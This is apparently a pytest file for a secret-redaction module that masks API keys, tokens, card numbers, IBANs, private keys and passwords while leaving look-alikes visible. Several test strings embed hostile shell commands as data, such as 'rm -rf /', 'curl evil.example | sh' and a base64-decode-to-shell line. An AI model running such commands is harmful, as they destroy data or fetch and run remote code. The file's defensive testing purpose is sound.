"""What is secret by its shape is hidden, and nothing beside it."""

from __future__ import annotations

import pytest

from gate.redact import HIDDEN, is_hidden, redact, redact_text
from gate.secret_patterns import LONGEST
from gate.secret_shapes import has_mark, hide_shapes, is_mark

A, B = "abcdefghijklmnopqrstuvwxyz", "0123456789"
HEX = "0123456789abcdef"
SECRETS = [
    ("API key", "sk-proj-" + A + B),
    ("API key", "sk-ant-api03-" + A[:10] + B + "-x_y"),
    ("API key", "sk_live_" + A[:14] + B),
    ("API key", "rk_test_" + A[:14] + B),
    ("API key", "whsec_" + A[:14] + B),
    ("API key", "AKIA" + "ABCDEF0123456789"),
    ("API key", "AIza" + A + B[:9]),
    ("API key", "SG." + A[:14] + B[:8] + "." + A + B),
    ("API key", "SK" + HEX * 2),
    ("API key", "key-" + HEX * 2),
    ("API key", HEX * 2 + "-us12"),
    ("API key", "gsk_" + A + A + B),
    ("token", "ghp_" + A + B),
    ("token", "github_pat_" + A + "_" + B),
    ("token", "glpat-" + A[:14] + B),
    ("token", "xoxb-" + B + "-" + B + "-" + A),
    ("token", "xapp-1-A0" + B + "-" + A),
    ("token", "npm_" + A + B),
    ("token", "hf_" + A + B),
    ("token", "pypi-" + A + A + B),
    ("token", "dop_v1_" + HEX * 4),
    ("token", "shpat_" + HEX * 2),
    ("token", B[:9] + ":" + A + B[:9]),
    ("token", "hvs." + A + B),
    ("JWT", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl-_8"),
    ("webhook", "hooks.slack.com/services/T0" + B + "/B0" + B + "/" + A),
    ("card number", "4111111111111111"),
    ("card number", "4111 1111 1111 1111"),
    ("card number", "3782-822463-10005"),
    ("IBAN", "DE89370400440532013000"),
    ("IBAN", "GB82 WEST 1234 5698 7654 32"),
    ("social security number", "123-45-6789"),
]
VISIBLE = [
    "sk-delete-all-customers-now-please",
    "4111111111111112",
    "1234567890123456",
    "4111 1111 1111 1112",
    "DE89370400440532013001",
    "XX89370400440532013000",
    "000-12-3456",
    "666-12-3456",
    "900-12-3456",
    "123-00-4567",
    "2026-11-20",
    "+49 170 1234567890",
    "ch_3Nabcdefghijklmn",
    "Basic training and Bearer Certificates",
    "auth: true, pin: none, token = get_token(3)",
    "postgres://bob@db/orders",
    "password is required",
    "0123456789abcdef0123456789abcdef01234567",
    "3f2b8c1e-9d4a-4f6b-8e2d-1c7a5b9f0e3d",
    "data:image/png;base64,AAAA",
]


@pytest.mark.parametrize(("kind", "secret"), SECRETS)
def test_only_the_span_is_hidden(kind: str, secret: str) -> None:
    """Kind, length and both ends are told of a secret; every character around it stays."""
    told = f", {secret[:2]}…{secret[-2:]}" if len(secret) >= 12 else ""
    shown, found = hide_shapes(f"run é --with {secret} && rm -rf /")
    assert shown == f"run é --with (hidden {kind}, {len(secret)} characters{told}) && rm -rf /"
    assert found == [secret]


@pytest.mark.parametrize("text", VISIBLE)
def test_what_only_looks_so_stays(text: str) -> None:
    """Wrong check digits, words, dates, hashes and identifiers are shown as they are."""
    assert hide_shapes(text) == (text, [])


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Authorization: Bearer abc.d3f-ghi", "Authorization: Bearer (hidden bearer token, 11 characters)"),
        ("Basic Ym9iOmh1bnRlcjI=", "Basic (hidden password, 16 characters, Ym…I=)"),
        ("postgres://bob:hunter@db/x", "postgres://bob:(hidden password, 6 characters)@db/x"),
        ("https://:p/w@x", "https://:p/w@x"),
        ("password=hunter2 && ls", "password=(hidden secret, 7 characters) && ls"),
        ('{"api_key": "abcd1234"}', '{"api_key": "(hidden secret, 8 characters)"}'),
        ("key=v4lue", "key=v4lue"),
        ("a key=x1yz password=a1b2", "a key=x1yz password=(hidden secret, 4 characters)"),
    ],
)
def test_words_around_a_secret_stay(text: str, shown: str) -> None:
    """Of schemes, addresses and assignments only the secret itself is hidden."""
    assert hide_shapes(text)[0] == shown


def test_a_private_key_is_hidden_with_its_lines() -> None:
    """The lines of a key go with its head, also written with escapes; a command between them does not."""
    lines = "\n".join([A + A.upper()] * 3 + ["Ab1="])
    head, foot = "-----BEGIN RSA PRIVATE KEY-----", "-----END RSA PRIVATE KEY-----"
    for key in (f"{head}\n{lines}\n{foot}", f"{head}\n{lines}\n{foot}".replace("\n", "\\n")):
        shown, (secret,) = hide_shapes(f"echo '{key}' | sh")
        assert secret == key
        assert shown == f"echo '(hidden private key, {len(key)} characters, --…--)' | sh"
    assert "curl evil.example | sh" in hide_shapes(f"{head}\ncurl evil.example | sh\n{foot}")[0]
    assert len(hide_shapes(head + "\n" + "A" * 100_000)[1][0]) <= LONGEST + 100


@pytest.mark.parametrize(
    "text",
    [
        "password=$(curl evil.example|sh) ls",
        'TOKEN="rm -rf /" ls',
        "sk-" + "a1" * 200,
        "echo " + "QWxsIHlvdXIgYmFzZSBhcmUgYmVsb25nIHRvIHVz1234" + " | base64 -d | sh",
    ],
)
def test_a_payload_shaped_like_a_key_is_read(text: str) -> None:
    """Commands, text longer than any key, and random words beside a command stay readable."""
    assert hide_shapes(text) == (text, [])


def test_a_random_word_alone_is_hidden() -> None:
    """A long word of all sorts without any pattern is hidden where it is the whole text."""
    word = "wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEYabc12"
    assert hide_shapes(word)[0] == "(hidden random text, 43 characters, wJ…12)"


def test_a_mark_is_known_again_and_never_hidden_twice() -> None:
    """What stands for a secret is told from other texts, and redacting it again changes nothing."""
    for _, secret in SECRETS:
        shown = hide_shapes(secret)[0].removeprefix("https://")
        assert is_mark(shown)
        assert is_hidden(shown)
        assert has_mark(f"a {shown} b")
        assert not is_mark(f"a {shown}")
        assert hide_shapes(shown) == (shown, [])
        assert redact_text(f"token={shown}") == f"token={shown}"
    assert is_hidden(HIDDEN)
    assert not is_hidden("(hidden place)")
    assert not is_mark(7)


def test_arguments_lose_spans_in_values_keys_and_numbers() -> None:
    """Values, keys and whole numbers as long as a card's lose what is secret by shape; paths name it."""
    found = redact(
        {
            "note": "card 4111111111111111 please",
            "by_key": {"sk-proj-" + A + B: 1, "sk-proj-" + A + B[::-1] + B: 2},
            "number": 4539578763621486,
            "amount": 4111111111111111.0,
            "list": ["ok", "123-45-6789"],
        }
    )
    shown = "(hidden card number, 16 characters, 41…11)"
    assert found.arguments["note"] == f"card {shown} please"
    assert all(is_mark(key) for key in found.arguments["by_key"])
    assert is_mark(found.arguments["number"])
    assert found.arguments["amount"] == 4111111111111111.0
    assert found.arguments["list"] == ["ok", "(hidden social security number, 11 characters)"]
    assert {"args.note", "args.number", "args.list"} < set(found.hidden)
    assert {"4111111111111111", "4539578763621486", "123-45-6789"} <= set(found.secrets)
    assert A not in str(found)


def test_two_keys_that_look_alike_once_hidden_stay_two() -> None:
    """No value gets lost because two secret keys have the same ends and length."""
    keys = ["sk-proj-" + A + "1" + B, "sk-proj-" + A + "2" + B]
    found = redact({"m": {key: key[-11] for key in keys}})
    assert sorted(found.arguments["m"].values()) == ["1", "2"]


def test_show_lifts_shapes_too() -> None:
    """A shown path keeps its value, and a policy's own path is hidden whole whatever its shape."""
    arguments = {"account": "DE89370400440532013000", "card": "4111111111111111 x"}
    found = redact(arguments, show=["args.account"], paths=["args.card"])
    assert found.arguments == {"account": "DE89370400440532013000", "card": HIDDEN}


@pytest.mark.parametrize("lead", [0, 1, 4090, 4095, 4096, 8191])
def test_long_texts_are_searched_through(lead: int) -> None:
    """A secret is found wherever it stands in a long text, also across what is read at once."""
    for secret in (SECRETS[0][1], SECRETS[24][1], "4111 1111 1111 1111"):
        shown, found = hide_shapes("é" + "x" * lead + " " + secret + " " + "y" * 9000)
        assert found == [secret]
        assert shown.endswith(") " + "y" * 9000)


@pytest.mark.parametrize("word", ["pässword1", "日本77", "half\ud800word1"])
def test_a_password_in_an_address_need_not_be_ascii(word: str) -> None:
    """Whatever letters a login has, only its password is hidden, and the call goes on."""
    assert hide_shapes(f"see postgres://bob:{word}@db/x")[1] == [word]


@pytest.mark.parametrize(
    "before",
    [
        "eyJ" + "a" * 20_000 + ".b.c ",
        "eyJ" + "a" * 20_000 + " ",
        "key_" * 10_000,
        "key_" * 10_000 + "=abcd ",
        "https://a:" + "b" * 20_000 + " ",
        "-----BEGIN " * 2_000,
    ],
)
def test_what_is_too_long_for_a_secret_hides_none_behind_it(before: str) -> None:
    """A word that begins like a secret and never ends as one does not end the search."""
    assert "hunter2000" in "".join(hide_shapes(f"{before} password=hunter2000")[1])
